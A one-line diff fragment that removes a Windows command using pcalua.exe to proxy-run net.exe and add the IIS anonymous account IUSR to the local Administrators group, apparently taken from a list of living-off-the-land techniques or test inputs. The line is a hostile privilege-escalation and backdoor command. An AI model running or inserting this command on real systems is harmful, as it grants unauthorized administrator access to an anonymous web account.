@@ -1,1 +1,0 @@
-pcalua.exe -a net.exe -c "localgroup Administrators IUSR /add"
